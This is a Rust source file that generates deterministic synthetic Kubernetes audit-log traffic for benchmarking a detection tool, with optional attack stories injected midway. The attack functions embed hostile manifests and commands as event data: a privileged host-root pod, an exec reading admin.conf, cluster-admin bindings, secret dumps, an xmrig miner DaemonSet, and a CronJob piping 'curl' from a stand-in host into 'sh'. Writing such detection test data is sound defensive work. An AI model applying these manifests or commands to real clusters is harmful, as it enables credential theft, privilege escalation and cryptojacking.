//! Realistic cluster traffic as audit events, for false-positive measurement and throughput
//! benchmarks: the benign chatter of a cluster of N nodes (kubelet leases and status every
//! 10 s, leader election, controller and kube-proxy watches, token refreshes, CI deployments
//! rolling out pods, developers reading their namespaces, monitoring scrapes), with optional
//! attack stories injected half-way.
//!
//! A crate of its own so that the detection crate's public API is detection only; it depends on
//! nothing of Osprey's (its tests read what it writes with `osprey-audit`).
//!
//! Generation is deterministic for a seed. Events come out in time order, one JSON line each,
//! written with serde from borrowed fields (no DOM), so generating is much cheaper than
//! analysing.

use std::cmp::Reverse;
use std::collections::BinaryHeap;
use std::io::{self, Write};

use serde::Serialize;
use serde_json::{Value, json};

/// What to simulate.
#[derive(Debug, Clone)]
pub struct SimConfig {
    pub nodes: usize,
    /// Simulated seconds.
    pub duration_s: u64,
    /// Average events per simulated second; the cluster's own traffic is topped up with
    /// controller reads to reach it. `None`: the cluster's own rate.
    pub rate: Option<f64>,
    pub attacks: Vec<Attack>,
    pub seed: u64,
    /// Unix time (seconds) of the start.
    pub start_s: i64,
}

impl Default for SimConfig {
    fn default() -> Self {
        SimConfig {
            nodes: 3,
            duration_s: 3600,
            rate: None,
            attacks: Vec::new(),
            seed: 1,
            start_s: 1_767_225_600, // 2026-01-01T00:00:00Z
        }
    }
}

/// Injected attack stories.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Anonymous access granted → privileged pod with the node's root mounted → exec into it →
    /// secrets dump.
    AnonymousAdmin,
    /// A stolen service-account token used from outside: permission checks, token minting,
    /// secret reads, a cluster-admin binding.
    TokenTheft,
    /// A miner as a privileged DaemonSet and a CronJob.
    CryptoMiner,
}

impl Attack {
    pub const ALL: [(&'static str, Attack); 3] = [
        ("anonymous-admin", Attack::AnonymousAdmin),
        ("token-theft", Attack::TokenTheft),
        ("crypto-miner", Attack::CryptoMiner),
    ];

    pub fn parse(name: &str) -> Option<Attack> {
        Attack::ALL
            .iter()
            .find(|(n, _)| *n == name)
            .map(|(_, a)| *a)
    }
}

/// SplitMix64: ten lines that keep the traffic reproducible for a seed on every platform,
/// which is all test traffic needs (no cryptographic use).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: u64) -> u64 {
        if n == 0 { 0 } else { self.next() % n }
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
}

#[derive(Serialize)]
struct User<'a> {
    username: &'a str,
    groups: &'a [&'a str],
}

#[derive(Serialize)]
struct ObjectRef<'a> {
    resource: &'a str,
    #[serde(skip_serializing_if = "str::is_empty")]
    namespace: &'a str,
    #[serde(skip_serializing_if = "str::is_empty")]
    name: &'a str,
    #[serde(rename = "apiGroup", skip_serializing_if = "str::is_empty")]
    api_group: &'a str,
    #[serde(rename = "apiVersion")]
    api_version: &'a str,
    #[serde(skip_serializing_if = "str::is_empty")]
    subresource: &'a str,
}

#[derive(Serialize)]
struct Status {
    metadata: Empty,
    code: u16,
}

#[derive(Serialize)]
struct Empty {}

#[derive(Serialize)]
struct Annotations<'a> {
    #[serde(rename = "authorization.k8s.io/decision")]
    decision: &'a str,
    #[serde(rename = "authorization.k8s.io/reason")]
    reason: &'a str,
}

#[derive(Serialize)]
struct AuditEvent<'a> {
    kind: &'static str,
    #[serde(rename = "apiVersion")]
    api_version: &'static str,
    level: &'a str,
    #[serde(rename = "auditID")]
    audit_id: &'a str,
    stage: &'a str,
    #[serde(rename = "requestURI")]
    request_uri: &'a str,
    verb: &'a str,
    user: User<'a>,
    #[serde(rename = "sourceIPs")]
    source_ips: [&'a str; 1],
    #[serde(rename = "userAgent")]
    user_agent: &'a str,
    #[serde(rename = "objectRef", skip_serializing_if = "Option::is_none")]
    object_ref: Option<ObjectRef<'a>>,
    #[serde(rename = "responseStatus")]
    response_status: Status,
    #[serde(rename = "requestObject", skip_serializing_if = "Option::is_none")]
    request_object: Option<&'a Value>,
    #[serde(rename = "requestReceivedTimestamp")]
    request_received: &'a str,
    #[serde(rename = "stageTimestamp")]
    stage_timestamp: &'a str,
    annotations: Annotations<'a>,
}

/// One call, before it is written.
struct Call<'a> {
    verb: &'a str,
    resource: &'a str,
    sub: &'a str,
    group: &'a str,
    ns: &'a str,
    name: &'a str,
    user: &'a str,
    groups: &'a [&'a str],
    ip: &'a str,
    ua: &'a str,
    code: u16,
    stage: &'a str,
    query: &'a str,
    body: Option<&'a Value>,
}

impl<'a> Call<'a> {
    fn new(verb: &'a str, resource: &'a str, user: &'a str, ip: &'a str, ua: &'a str) -> Self {
        Call {
            verb,
            resource,
            sub: "",
            group: "",
            ns: "",
            name: "",
            user,
            groups: &["system:authenticated"],
            ip,
            ua,
            code: if verb == "create" { 201 } else { 200 },
            stage: "ResponseComplete",
            query: "",
            body: None,
        }
    }
}

const NODE_GROUPS: &[&str] = &["system:nodes", "system:authenticated"];
const KUBELET_UA: &str = "kubelet/v1.30.4 (linux/amd64) kubernetes/a51b3b7";
const KCM_UA: &str = "kube-controller-manager/v1.30.4 (linux/amd64) kubernetes/a51b3b7";
const SCHED_UA: &str = "kube-scheduler/v1.30.4 (linux/amd64) kubernetes/a51b3b7";
const KUBECTL_UA: &str = "kubectl/v1.30.4 (linux/amd64) kubernetes/a51b3b7";
const APP_NAMESPACES: &[&str] = &["shop", "payments", "search", "checkout", "catalog", "auth"];
const CONTROLLERS: &[(&str, &str, &str)] = &[
    (
        "system:serviceaccount:kube-system:replicaset-controller",
        "replicasets",
        "apps",
    ),
    (
        "system:serviceaccount:kube-system:deployment-controller",
        "deployments",
        "apps",
    ),
    (
        "system:serviceaccount:kube-system:endpointslice-controller",
        "endpointslices",
        "discovery.k8s.io",
    ),
    (
        "system:serviceaccount:kube-system:job-controller",
        "jobs",
        "batch",
    ),
    (
        "system:serviceaccount:kube-system:namespace-controller",
        "namespaces",
        "",
    ),
    (
        "system:serviceaccount:kube-system:generic-garbage-collector",
        "configmaps",
        "",
    ),
    (
        "system:serviceaccount:kube-system:horizontal-pod-autoscaler",
        "deployments",
        "apps",
    ),
];

/// Periodic sources of traffic.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Source {
    NodeLease(usize),
    NodeStatus(usize),
    LeaderElection(u8),
    ControllerWatch,
    KubeProxyWatch(usize),
    TokenRefresh,
    CiDeploy,
    Developer,
    Monitoring,
    Filler,
}

/// Writes the simulated traffic as JSON lines; returns how many events.
pub fn simulate(config: &SimConfig, out: &mut dyn Write) -> io::Result<u64> {
    let mut sim = Sim {
        rng: Rng(config.seed),
        n: 0,
        start_us: config.start_s * 1_000_000,
        buf: Vec::with_capacity(4096),
        id: String::with_capacity(36),
        ts: String::with_capacity(32),
        out,
    };
    let nodes: Vec<String> = (0..config.nodes.max(1))
        .map(|i| format!("ip-10-0-{}-{}.ec2.internal", i / 250, i % 250 + 10))
        .collect();
    let node_ips: Vec<String> = (0..nodes.len())
        .map(|i| format!("10.0.{}.{}", i / 250, i % 250 + 10))
        .collect();
    let end_us = config.duration_s as i64 * 1_000_000;
    // (period µs, source); every source starts at a random phase.
    let mut sources: Vec<(i64, Source)> = Vec::new();
    for i in 0..nodes.len() {
        sources.push((10_000_000, Source::NodeLease(i)));
        sources.push((60_000_000, Source::NodeStatus(i)));
        sources.push((300_000_000, Source::KubeProxyWatch(i)));
    }
    sources.push((2_000_000, Source::LeaderElection(0)));
    sources.push((2_000_000, Source::LeaderElection(1)));
    sources.push((500_000, Source::ControllerWatch));
    // ~20 pods a node, tokens refreshed at 80 % of an hour.
    sources.push((
        (2_880_000_000 / (20 * nodes.len() as i64)).max(1_000),
        Source::TokenRefresh,
    ));
    sources.push((1_800_000_000, Source::CiDeploy));
    sources.push((120_000_000, Source::Developer));
    sources.push((15_000_000, Source::Monitoring));
    let base_rate: f64 = sources
        .iter()
        .map(|(p, s)| {
            let per = match s {
                Source::CiDeploy => 8.0,
                Source::Monitoring => 3.0,
                _ => 1.0,
            };
            per * 1e6 / *p as f64
        })
        .sum();
    if let Some(rate) = config.rate
        && rate > base_rate
    {
        sources.push(((1e6 / (rate - base_rate)).max(1.0) as i64, Source::Filler));
    }
    let mut heap: BinaryHeap<Reverse<(i64, usize)>> = BinaryHeap::new();
    for (i, (period, _)) in sources.iter().enumerate() {
        let phase = sim.rng.below(*period as u64) as i64;
        heap.push(Reverse((phase, i)));
    }
    let mut attacks_done = false;
    let attack_at = end_us / 2;
    let mut deploy_no = 0u64;
    while let Some(Reverse((t, i))) = heap.pop() {
        if t >= end_us {
            break;
        }
        if !attacks_done && t >= attack_at {
            attacks_done = true;
            for a in &config.attacks {
                sim.attack(*a, t)?;
            }
        }
        let (period, source) = sources[i];
        match source {
            Source::NodeLease(n) => {
                let mut c = Call::new("update", "leases", "", &node_ips[n], KUBELET_UA);
                let user = format!("system:node:{}", nodes[n]);
                c.user = &user;
                c.groups = NODE_GROUPS;
                c.group = "coordination.k8s.io";
                c.ns = "kube-node-lease";
                c.name = &nodes[n];
                c.query = "timeout=10s";
                sim.emit(t, &c)?;
            }
            Source::NodeStatus(n) => {
                let user = format!("system:node:{}", nodes[n]);
                let mut c = Call::new("patch", "nodes", &user, &node_ips[n], KUBELET_UA);
                c.groups = NODE_GROUPS;
                c.sub = "status";
                c.name = &nodes[n];
                sim.emit(t, &c)?;
            }
            Source::KubeProxyWatch(n) => {
                let mut c = Call::new(
                    "watch",
                    "endpointslices",
                    "system:kube-proxy",
                    &node_ips[n],
                    "kube-proxy/v1.30.4 (linux/amd64) kubernetes/a51b3b7",
                );
                c.group = "discovery.k8s.io";
                c.query = "allowWatchBookmarks=true&labelSelector=%21service.kubernetes.io%2Fheadless&resourceVersion=1&timeout=7m&watch=true";
                sim.emit(t, &c)?;
            }
            Source::LeaderElection(which) => {
                let (user, ua, name) = if which == 0 {
                    (
                        "system:kube-controller-manager",
                        KCM_UA,
                        "kube-controller-manager",
                    )
                } else {
                    ("system:kube-scheduler", SCHED_UA, "kube-scheduler")
                };
                let mut c = Call::new("update", "leases", user, "10.0.0.2", ua);
                c.group = "coordination.k8s.io";
                c.ns = "kube-system";
                c.name = name;
                sim.emit(t, &c)?;
            }
            Source::ControllerWatch => {
                let (user, resource, group) = *sim.rng.pick(CONTROLLERS);
                let verb = *sim.rng.pick(&["list", "watch", "get"]);
                let mut c = Call::new(verb, resource, user, "10.0.0.2", KCM_UA);
                c.group = group;
                c.groups = &[
                    "system:serviceaccounts",
                    "system:serviceaccounts:kube-system",
                    "system:authenticated",
                ];
                if verb == "get" {
                    c.ns = *sim.rng.pick(APP_NAMESPACES);
                    c.name = "web";
                }
                sim.emit(t, &c)?;
            }
            Source::TokenRefresh => {
                let n = sim.rng.below(nodes.len() as u64) as usize;
                let user = format!("system:node:{}", nodes[n]);
                let mut c = Call::new("create", "serviceaccounts", &user, &node_ips[n], KUBELET_UA);
                c.groups = NODE_GROUPS;
                c.sub = "token";
                c.ns = *sim.rng.pick(APP_NAMESPACES);
                c.name = "default";
                sim.emit(t, &c)?;
            }
            Source::CiDeploy => {
                deploy_no += 1;
                sim.deploy(t, deploy_no, &nodes, &node_ips)?;
            }
            Source::Developer => {
                let user =
                    *sim.rng
                        .pick(&["alice@example.com", "bob@example.com", "carol@example.com"]);
                let ns = *sim.rng.pick(APP_NAMESPACES);
                let (verb, resource, sub) = *sim.rng.pick(&[
                    ("list", "pods", ""),
                    ("get", "deployments", ""),
                    ("get", "pods", "log"),
                    ("list", "events", ""),
                    ("list", "services", ""),
                ]);
                let mut c = Call::new(verb, resource, user, "10.20.0.15", KUBECTL_UA);
                c.ns = ns;
                c.sub = sub;
                if resource == "deployments" {
                    c.group = "apps";
                }
                if verb == "get" {
                    c.name = "web";
                }
                sim.emit(t, &c)?;
            }
            Source::Monitoring => {
                for resource in ["pods", "endpoints", "services"] {
                    let mut c = Call::new(
                        "list",
                        resource,
                        "system:serviceaccount:monitoring:prometheus",
                        "10.0.3.40",
                        "Prometheus/2.53.0",
                    );
                    c.groups = &[
                        "system:serviceaccounts",
                        "system:serviceaccounts:monitoring",
                        "system:authenticated",
                    ];
                    sim.emit(t, &c)?;
                }
            }
            Source::Filler => {
                let ns = *sim.rng.pick(APP_NAMESPACES);
                let (verb, resource, group) = *sim.rng.pick(&[
                    ("get", "configmaps", ""),
                    ("get", "leases", "coordination.k8s.io"),
                    ("list", "pods", ""),
                    ("get", "certificates", "cert-manager.io"),
                    ("watch", "ingresses", "networking.k8s.io"),
                ]);
                let mut c = Call::new(
                    verb,
                    resource,
                    "system:serviceaccount:cert-manager:cert-manager",
                    "10.0.4.7",
                    "cert-manager/v1.15.1 (linux/amd64) cert-manager/a1b2c3",
                );
                c.ns = ns;
                c.group = group;
                c.groups = &[
                    "system:serviceaccounts",
                    "system:serviceaccounts:cert-manager",
                    "system:authenticated",
                ];
                if verb == "get" {
                    c.name = "cert-manager-controller";
                }
                sim.emit(t, &c)?;
            }
        }
        let jitter = (period / 20).max(1);
        let next = t + period - jitter + sim.rng.below(2 * jitter as u64) as i64;
        heap.push(Reverse((next.max(t + 1), i)));
    }
    Ok(sim.n)
}

struct Sim<'o> {
    rng: Rng,
    n: u64,
    start_us: i64,
    buf: Vec<u8>,
    id: String,
    ts: String,
    out: &'o mut dyn Write,
}

impl Sim<'_> {
    fn emit(&mut self, t_us: i64, c: &Call<'_>) -> io::Result<()> {
        use std::fmt::Write as _;
        self.n += 1;
        self.id.clear();
        let r = self.rng.next();
        let _ = write!(
            self.id,
            "{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}",
            (self.n >> 16) as u32,
            self.n as u16,
            (r >> 52) & 0xfff,
            (r >> 40) & 0xfff,
            r & 0xffff_ffff_ffff
        );
        self.ts.clear();
        let _ = write!(
            self.ts,
            "{}",
            jiff::Timestamp::from_microsecond(self.start_us + t_us)
                .unwrap_or(jiff::Timestamp::UNIX_EPOCH)
        );
        let mut uri = String::with_capacity(96);
        uri.push_str(if c.group.is_empty() {
            "/api/v1"
        } else {
            "/apis/"
        });
        if !c.group.is_empty() {
            uri.push_str(c.group);
            uri.push_str("/v1");
        }
        if !c.ns.is_empty() {
            uri.push_str("/namespaces/");
            uri.push_str(c.ns);
        }
        if !c.resource.is_empty() {
            uri.push('/');
            uri.push_str(c.resource);
        }
        if !c.name.is_empty() {
            uri.push('/');
            uri.push_str(c.name);
        }
        if !c.sub.is_empty() {
            uri.push('/');
            uri.push_str(c.sub);
        }
        if !c.query.is_empty() {
            uri.push('?');
            uri.push_str(c.query);
        }
        let ev = AuditEvent {
            kind: "Event",
            api_version: "audit.k8s.io/v1",
            level: if c.body.is_some() {
                "Request"
            } else {
                "Metadata"
            },
            audit_id: &self.id,
            stage: c.stage,
            request_uri: &uri,
            verb: c.verb,
            user: User {
                username: c.user,
                groups: c.groups,
            },
            source_ips: [c.ip],
            user_agent: c.ua,
            object_ref: (!c.resource.is_empty()).then_some(ObjectRef {
                resource: c.resource,
                namespace: c.ns,
                name: c.name,
                api_group: c.group,
                api_version: "v1",
                subresource: c.sub,
            }),
            response_status: Status {
                metadata: Empty {},
                code: c.code,
            },
            request_object: c.body,
            request_received: &self.ts,
            stage_timestamp: &self.ts,
            annotations: Annotations {
                decision: if matches!(c.code, 401 | 403) {
                    "forbid"
                } else {
                    "allow"
                },
                reason: "",
            },
        };
        self.buf.clear();
        serde_json::to_writer(&mut self.buf, &ev).map_err(io::Error::other)?;
        self.buf.push(b'\n');
        self.out.write_all(&self.buf)
    }

    /// A CI rollout: the deployer patches the image, the controllers roll out new pods, the
    /// scheduler binds them, kubelets report status and fetch their config.
    fn deploy(&mut self, t: i64, no: u64, nodes: &[String], node_ips: &[String]) -> io::Result<()> {
        let ns = *self.rng.pick(APP_NAMESPACES);
        let image = format!("registry.example.com/{ns}/web:1.{no}.0");
        let patch = json!({"spec": {"template": {"spec": {"containers": [{"name": "web", "image": image}]}}}});
        let mut c = Call::new(
            "patch",
            "deployments",
            "system:serviceaccount:ci:deployer",
            "10.30.0.5",
            "argocd-application-controller/v2.11.3",
        );
        c.groups = &[
            "system:serviceaccounts",
            "system:serviceaccounts:ci",
            "system:authenticated",
        ];
        c.group = "apps";
        c.ns = ns;
        c.name = "web";
        c.body = Some(&patch);
        self.emit(t, &c)?;
        let rs = json!({"kind": "ReplicaSet", "metadata": {"name": format!("web-{no:x}"), "namespace": ns},
            "spec": {"replicas": 2, "template": {"spec": {"serviceAccountName": "web", "containers": [{"name": "web", "image": image,
            "securityContext": {"allowPrivilegeEscalation": false, "runAsNonRoot": true}}]}}}});
        let mut c = Call::new(
            "create",
            "replicasets",
            "system:serviceaccount:kube-system:deployment-controller",
            "10.0.0.2",
            KCM_UA,
        );
        c.group = "apps";
        c.ns = ns;
        c.body = Some(&rs);
        self.emit(t + 20_000, &c)?;
        for p in 0..2i64 {
            let pod_name = format!("web-{no:x}-{p}");
            let pod = json!({"kind": "Pod", "metadata": {"generateName": format!("web-{no:x}-"), "namespace": ns},
                "spec": {"serviceAccountName": "web", "containers": [{"name": "web", "image": image,
                "securityContext": {"allowPrivilegeEscalation": false, "runAsNonRoot": true},
                "volumeMounts": [{"name": "config", "mountPath": "/etc/web", "readOnly": true}]}],
                "volumes": [{"name": "config", "configMap": {"name": "web-config"}}]}});
            let mut c = Call::new(
                "create",
                "pods",
                "system:serviceaccount:kube-system:replicaset-controller",
                "10.0.0.2",
                KCM_UA,
            );
            c.ns = ns;
            c.body = Some(&pod);
            self.emit(t + 40_000 + p * 1000, &c)?;
            let mut c = Call::new(
                "create",
                "pods",
                "system:kube-scheduler",
                "10.0.0.2",
                SCHED_UA,
            );
            c.ns = ns;
            c.name = &pod_name;
            c.sub = "binding";
            self.emit(t + 60_000 + p * 1000, &c)?;
            let n = self.rng.below(nodes.len() as u64) as usize;
            let user = format!("system:node:{}", nodes[n]);
            let mut c = Call::new("get", "configmaps", &user, &node_ips[n], KUBELET_UA);
            c.groups = NODE_GROUPS;
            c.ns = ns;
            c.name = "web-config";
            self.emit(t + 900_000 + p * 1000, &c)?;
            let mut c = Call::new("patch", "pods", &user, &node_ips[n], KUBELET_UA);
            c.groups = NODE_GROUPS;
            c.ns = ns;
            c.name = &pod_name;
            c.sub = "status";
            self.emit(t + 2_000_000 + p * 1000, &c)?;
        }
        Ok(())
    }

    fn attack(&mut self, a: Attack, t: i64) -> io::Result<()> {
        const ATTACKER: &str = "203.0.113.66";
        const CURL: &str = "curl/8.4.0";
        let anon: &[&str] = &["system:unauthenticated"];
        match a {
            Attack::AnonymousAdmin => {
                let crb = json!({"kind": "ClusterRoleBinding", "metadata": {"name": "anonymous-debug"},
                    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
                    "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "system:anonymous"}]});
                let mut c = Call::new(
                    "create",
                    "clusterrolebindings",
                    "dev-admin",
                    "198.51.100.23",
                    KUBECTL_UA,
                );
                c.group = "rbac.authorization.k8s.io";
                c.groups = &["system:masters", "system:authenticated"];
                c.body = Some(&crb);
                self.emit(t, &c)?;
                let pod = json!({"kind": "Pod", "metadata": {"name": "node-debugger", "namespace": "default"},
                    "spec": {"hostPID": true, "containers": [{"name": "shell", "image": "docker.io/library/alpine:3.20",
                    "securityContext": {"privileged": true}, "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
                    "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}});
                let mut c = Call::new("create", "pods", "system:anonymous", ATTACKER, CURL);
                c.groups = anon;
                c.ns = "default";
                c.body = Some(&pod);
                self.emit(t + 60_000_000, &c)?;
                let mut c = Call::new("create", "pods", "system:anonymous", ATTACKER, CURL);
                c.groups = anon;
                c.ns = "default";
                c.name = "node-debugger";
                c.sub = "exec";
                c.code = 101;
                c.stage = "ResponseStarted";
                c.query = "command=sh&command=-c&command=chroot%20%2Fhost%20cat%20%2Fetc%2Fkubernetes%2Fadmin.conf";
                self.emit(t + 90_000_000, &c)?;
                let mut c = Call::new("list", "secrets", "system:anonymous", ATTACKER, CURL);
                c.groups = anon;
                self.emit(t + 120_000_000, &c)?;
                for i in 0..16i64 {
                    let name = format!("secret-{i}");
                    let mut c = Call::new("get", "secrets", "system:anonymous", ATTACKER, CURL);
                    c.groups = anon;
                    c.ns = if i < 4 { "kube-system" } else { "payments" };
                    c.name = &name;
                    self.emit(t + 130_000_000 + i * 2_000_000, &c)?;
                }
            }
            Attack::TokenTheft => {
                let sa = "system:serviceaccount:shop:web";
                let groups: &[&str] = &[
                    "system:serviceaccounts",
                    "system:serviceaccounts:shop",
                    "system:authenticated",
                ];
                let mut c = Call::new(
                    "create",
                    "selfsubjectrulesreviews",
                    sa,
                    ATTACKER,
                    "kubectl/v1.29.0 (linux/amd64)",
                );
                c.group = "authorization.k8s.io";
                c.groups = groups;
                self.emit(t, &c)?;
                let mut c = Call::new("create", "serviceaccounts", sa, ATTACKER, CURL);
                c.groups = groups;
                c.ns = "shop";
                c.name = "deployer";
                c.sub = "token";
                self.emit(t + 5_000_000, &c)?;
                for i in 0..5i64 {
                    let name = format!("shop-secret-{i}");
                    let mut c = Call::new("get", "secrets", sa, ATTACKER, CURL);
                    c.groups = groups;
                    c.ns = "shop";
                    c.name = &name;
                    self.emit(t + 10_000_000 + i * 1_000_000, &c)?;
                }
                let crb = json!({"kind": "ClusterRoleBinding", "metadata": {"name": "shop-web-admin"},
                    "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
                    "subjects": [{"kind": "ServiceAccount", "name": "web", "namespace": "shop"}]});
                let mut c = Call::new("create", "clusterrolebindings", sa, ATTACKER, CURL);
                c.groups = groups;
                c.group = "rbac.authorization.k8s.io";
                c.body = Some(&crb);
                self.emit(t + 20_000_000, &c)?;
            }
            Attack::CryptoMiner => {
                let ds = json!({"kind": "DaemonSet", "metadata": {"name": "node-agent", "namespace": "kube-system"},
                    "spec": {"template": {"spec": {"hostNetwork": true, "containers": [{"name": "agent", "image": "docker.io/xmrig/xmrig:6.21",
                    "args": ["-o", "stratum+tcp://pool.example.net:3333"], "securityContext": {"privileged": true}}]}}}});
                let mut c = Call::new(
                    "create",
                    "daemonsets",
                    "mallory@example.com",
                    ATTACKER,
                    KUBECTL_UA,
                );
                c.group = "apps";
                c.ns = "kube-system";
                c.body = Some(&ds);
                self.emit(t, &c)?;
                let cj = json!({"kind": "CronJob", "metadata": {"name": "cleanup", "namespace": "default"},
                    "spec": {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {"spec": {"containers": [{"name": "c",
                    "image": "alpine", "command": ["sh", "-c", "curl -s http://203.0.113.9/x.sh | sh"]}]}}}}}});
                let mut c = Call::new(
                    "create",
                    "cronjobs",
                    "mallory@example.com",
                    ATTACKER,
                    KUBECTL_UA,
                );
                c.group = "batch";
                c.ns = "default";
                c.body = Some(&cj);
                self.emit(t + 30_000_000, &c)?;
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use osprey_audit::event::reader::{Reader, ReaderLimits};
    use osprey_audit::event::{Decoder, Event};

    #[test]
    fn deterministic_time_ordered_and_parseable() {
        let config = SimConfig {
            nodes: 5,
            duration_s: 600,
            ..SimConfig::default()
        };
        let mut a = Vec::new();
        let n = simulate(&config, &mut a).unwrap();
        let mut b = Vec::new();
        simulate(&config, &mut b).unwrap();
        assert_eq!(a, b);
        // 5 nodes: a lease every 10 s each = 300 in 10 minutes, plus everything else.
        assert!(n > 300 + 500, "{n}");
        let mut reader = Reader::new(Decoder::default(), ReaderLimits::default());
        let mut last = i64::MIN;
        let mut leases = 0;
        let mut ordered = true;
        reader.push(&a, &mut |e: Event<'_>| {
            let t = e.time_us.unwrap();
            ordered &= t >= last;
            last = t;
            leases += usize::from(
                e.object_ref.resource == "leases" && e.user.username.starts_with("system:node:"),
            );
        });
        reader.finish(&mut |_| {});
        assert_eq!(reader.stats.events, n);
        assert_eq!(reader.stats.malformed, 0);
        assert!(ordered, "events are in time order");
        assert!((290..=310).contains(&leases), "{leases}");
    }

    #[test]
    fn rate_tops_up_traffic() {
        let config = SimConfig {
            nodes: 1,
            duration_s: 100,
            rate: Some(1000.0),
            ..SimConfig::default()
        };
        let n = simulate(&config, &mut io::sink()).unwrap();
        assert!((90_000..=110_000).contains(&n), "{n}");
    }
}
